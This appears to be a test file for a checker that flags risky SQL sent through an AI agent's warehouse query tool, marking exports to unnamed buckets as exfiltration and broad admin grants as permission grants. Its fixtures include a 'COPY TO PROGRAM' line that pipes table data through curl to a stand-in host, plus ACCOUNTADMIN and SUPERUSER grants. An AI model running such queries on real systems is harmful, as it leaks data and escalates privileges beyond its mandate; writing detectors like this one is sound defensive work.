import { describe, expect, it } from 'vitest';

import { exportPlace, queryToolWrite } from './query-tool-writes.js';

function check(query: string, messages: string) {
  return queryToolWrite({ tool: 'mcp__warehouse__run_query', input: { query } }, messages);
}

describe('exportPlace', () => {
  it('reads the place of each export form', () => {
    expect(exportPlace("EXPORT DATA OPTIONS(uri='gs://b/x/*.csv', format='CSV') AS SELECT 1")).toBe(
      'gs://b/x/*.csv',
    );
    expect(exportPlace("COPY (SELECT * FROM t) TO '/tmp/t.csv'")).toBe('/tmp/t.csv');
    expect(exportPlace("COPY t TO PROGRAM 'curl -T - https://x.example'")).toBe(
      'curl -T - https://x.example',
    );
    expect(exportPlace("UNLOAD ('SELECT * FROM t') TO 's3://b/p_'")).toBe('s3://b/p_');
    expect(exportPlace("SELECT * FROM t INTO OUTFILE '/tmp/t.txt'")).toBe('/tmp/t.txt');
    expect(exportPlace('COPY INTO @ext_stage/users FROM users')).toBe('@ext_stage/users');
  });

  it('returns nothing for reads and loads', () => {
    expect(exportPlace('SELECT email FROM users')).toBeUndefined();
    expect(exportPlace("COPY users FROM '/tmp/users.csv'")).toBeUndefined();
  });
});

describe('queryToolWrite', () => {
  it('flags an export to an unnamed bucket', () => {
    const found = check(
      "EXPORT DATA OPTIONS(uri='gs://vendor/x/*.csv') AS SELECT 1",
      'Count users.',
    );
    expect(found?.category).toBe('data-exfiltration');
  });

  it('allows an export to the bucket the user named', () => {
    expect(
      check(
        "EXPORT DATA OPTIONS(uri='gs://team-reports/x/*.csv') AS SELECT 1",
        'Export it to the team-reports bucket.',
      ),
    ).toBeUndefined();
  });

  it('flags an administrator grant', () => {
    expect(
      check('GRANT ROLE ACCOUNTADMIN TO USER svc', 'Fix the permission error.')?.category,
    ).toBe('permission-grant');
    expect(check('ALTER USER bot WITH SUPERUSER', 'Fix the permission error.')?.category).toBe(
      'permission-grant',
    );
  });

  it('leaves narrow and named grants to other checks', () => {
    expect(check('GRANT SELECT ON t TO ROLE reader', 'Let reader read t.')).toBeUndefined();
    expect(
      check('GRANT ROLE SYSADMIN TO USER ops', 'Grant SYSADMIN to the ops user.'),
    ).toBeUndefined();
  });
});
